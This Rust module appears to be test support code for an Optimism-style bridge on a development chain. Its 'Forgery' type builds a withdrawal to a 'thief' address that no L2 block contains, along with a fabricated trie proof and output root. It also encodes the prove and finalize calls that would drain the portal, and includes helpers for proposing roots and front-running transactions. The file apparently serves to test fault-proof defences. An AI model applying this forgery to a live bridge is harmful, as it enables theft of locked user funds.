//! The way out, as those use it who mean no good: output roots that nobody derived, and withdrawals that nobody made.

use crate::{Account, Bridge, Call, Rpc, TxForm};
use alloy_primitives::{Address, B256, Bytes, U256, hex, keccak256};
use alloy_sol_types::{SolCall, SolValue, sol};
use anyhow::{Context, Result};
use serde_json::json;

sol! {
    /// As far as the stories call them.
    #[derive(Debug)]
    interface IExit {
        struct WithdrawalTransaction {
            uint256 nonce;
            address sender;
            address target;
            uint256 value;
            uint256 gasLimit;
            bytes data;
        }
        struct OutputRootProof {
            bytes32 version;
            bytes32 stateRoot;
            bytes32 messagePasserStorageRoot;
            bytes32 latestBlockhash;
        }
        error OptimismPortal_InvalidRootClaim();
        error OptimismPortal_InvalidDisputeGame();
        function create(uint32 gameType, bytes32 rootClaim, bytes extraData) external payable returns (address proxy);
        function initBonds(uint32 gameType) external view returns (uint256);
        function gameCount() external view returns (uint256);
        function gameAtIndex(uint256 index) external view returns (uint32 gameType, uint64 timestamp, address proxy);
        function rootClaim() external view returns (bytes32);
        function l2SequenceNumber() external view returns (uint256);
        function status() external view returns (uint8);
        function gameCreator() external view returns (address);
        function credit(address recipient) external view returns (uint256);
        function getAnchorRoot() external view returns (bytes32 root, uint256 l2SequenceNumber);
        function lockedBalance() external view returns (uint256);
        function proveWithdrawalTransaction(WithdrawalTransaction withdrawal, uint256 disputeGameIndex, OutputRootProof outputRootProof, bytes[] withdrawalProof) external;
        function finalizeWithdrawalTransaction(WithdrawalTransaction withdrawal) external;
    }
}

/// Index of the proposer's key under the development mnemonic.
pub const PROPOSER: u32 = 101;

/// Index of the challenger's key under the development mnemonic.
pub const CHALLENGER: u32 = 103;

/// The type of the permissioned game.
const GAME_TYPE: u32 = 1;

/// A game that was resolved for the challenger.
pub const CHALLENGER_WINS: u8 = 1;

/// A game that was resolved for the proposer.
pub const DEFENDER_WINS: u8 = 2;

/// A game on the L1, as its contract describes it.
#[derive(Debug, Clone, Copy)]
pub struct OnChainGame {
    /// Its contract.
    pub address: Address,
    /// The claimed output root.
    pub root: B256,
    /// The block of which it is said to be.
    pub number: u64,
    /// 0: open, 1: rejected, 2: confirmed.
    pub status: u8,
}

impl Bridge {
    /// What a contract of the L1 answers, as of the newest block.
    ///
    /// # Errors
    /// When it reverts, or answers something else.
    pub async fn view<C: SolCall>(&self, contract: Address, call: C) -> Result<C::Return> {
        let request = json!({"to": contract, "data": hex::encode_prefixed(call.abi_encode())});
        let answer: Bytes = self.l1.get("eth_call", json!([request, "latest"])).await?;
        C::abi_decode_returns(&answer).with_context(|| C::SIGNATURE.to_owned())
    }

    /// All games of the L1, the oldest first.
    ///
    /// # Errors
    /// When they can not be read.
    pub async fn games(&self) -> Result<Vec<OnChainGame>> {
        let factory = self.contract("DisputeGameFactory")?;
        let count: u64 = self.view(factory, IExit::gameCountCall {}).await?.to();
        let mut games = Vec::new();
        for index in 0..count {
            let index = U256::from(index);
            let found = self
                .view(factory, IExit::gameAtIndexCall { index })
                .await?
                .proxy;
            games.push(OnChainGame {
                address: found,
                root: self.view(found, IExit::rootClaimCall {}).await?,
                number: self.view(found, IExit::l2SequenceNumberCall {}).await?.to(),
                status: self.view(found, IExit::statusCall {}).await?,
            });
        }
        Ok(games)
    }

    /// Claims an output root as the proposer; the transaction's hash.
    ///
    /// # Errors
    /// When it is refused.
    pub async fn claim(&self, root: B256, number: u64) -> Result<B256> {
        let factory = self.contract("DisputeGameFactory")?;
        let bond = self
            .view(
                factory,
                IExit::initBondsCall {
                    gameType: GAME_TYPE,
                },
            )
            .await?;
        let call = IExit::createCall {
            gameType: GAME_TYPE,
            rootClaim: root,
            extraData: U256::from(number).abi_encode().into(),
        };
        let proposer = Account::development(PROPOSER)?;
        self.send_with_value(&proposer, factory, call.abi_encode(), bond)
            .await
    }

    /// Sends a transaction that pays so much that it is the first of its block; its hash.
    ///
    /// # Errors
    /// When it is refused.
    pub async fn send_first(&self, from: &Account, to: Address, input: Vec<u8>) -> Result<B256> {
        let nonce = self.l1.nonce(from.address, "pending").await?;
        let call = Call {
            to: Some(to),
            value: U256::ZERO,
            input: input.into(),
            gas: 1_000_000,
        };
        let (hash, raw) = from.sign_as(TxForm::Legacy, self.chain_id, nonce, call)?;
        self.l1.call("eth_sendRawTransaction", json!([raw])).await?;
        Ok(hash)
    }
}

/// A withdrawal that is in no block of the L2, and an output root that says it is.
#[derive(Debug, Clone)]
pub struct Forgery {
    withdrawal: IExit::WithdrawalTransaction,
    output: IExit::OutputRootProof,
    proof: Bytes,
}

impl Forgery {
    /// Takes so much out of the portal.
    pub fn of(thief: Address, value: U256) -> Self {
        let withdrawal = IExit::WithdrawalTransaction {
            nonce: U256::from(1) << 240,
            sender: thief,
            target: thief,
            value,
            gasLimit: U256::from(100_000),
            data: Bytes::new(),
        };
        let hash = keccak256(
            (
                withdrawal.nonce,
                thief,
                thief,
                value,
                withdrawal.gasLimit,
                Bytes::new(),
            )
                .abi_encode_params(),
        );
        let slot = keccak256((hash, U256::ZERO).abi_encode());
        // A trie of one leaf: the path, with the prefix of a leaf of even length, and the value 1.
        let leaf = [&hex!("e3a120")[..], keccak256(slot).as_slice(), &[1]].concat();
        let output = IExit::OutputRootProof {
            version: B256::ZERO,
            stateRoot: B256::repeat_byte(0xaa),
            messagePasserStorageRoot: keccak256(&leaf),
            latestBlockhash: B256::repeat_byte(0xbb),
        };
        Self {
            withdrawal,
            output,
            proof: leaf.into(),
        }
    }

    /// The output root.
    pub fn root(&self) -> B256 {
        keccak256(
            (
                self.output.version,
                self.output.stateRoot,
                self.output.messagePasserStorageRoot,
                self.output.latestBlockhash,
            )
                .abi_encode(),
        )
    }

    /// The call that proves it against a game.
    pub fn prove(&self, game_index: u64) -> Vec<u8> {
        IExit::proveWithdrawalTransactionCall {
            withdrawal: self.withdrawal.clone(),
            disputeGameIndex: U256::from(game_index),
            outputRootProof: self.output.clone(),
            withdrawalProof: vec![self.proof.clone()],
        }
        .abi_encode()
    }

    /// The call that finalizes it.
    pub fn finalize(&self) -> Vec<u8> {
        IExit::finalizeWithdrawalTransactionCall {
            withdrawal: self.withdrawal.clone(),
        }
        .abi_encode()
    }
}

/// The data with which a call reverts, as of the newest block.
///
/// # Errors
/// When it does not revert.
pub async fn revert_of(l1: &Rpc, from: Address, to: Address, input: &[u8]) -> Result<Bytes> {
    let request = json!({"from": from, "to": to, "data": hex::encode_prefixed(input)});
    match l1.call("eth_call", json!([request, "latest"])).await {
        Err(crate::CallError::Refused { data, .. }) => {
            serde_json::from_value(data).context("the revert data")
        }
        other => anyhow::bail!("expected a revert, got {other:?}"),
    }
}

/// Transactions of an account that wait in the L1's pool.
///
/// # Errors
/// When the pool can not be read.
pub async fn waiting(l1: &Rpc, account: Address) -> Result<u64> {
    let (latest, pending) = (
        l1.nonce(account, "latest").await?,
        l1.nonce(account, "pending").await?,
    );
    Ok(pending - latest)
}
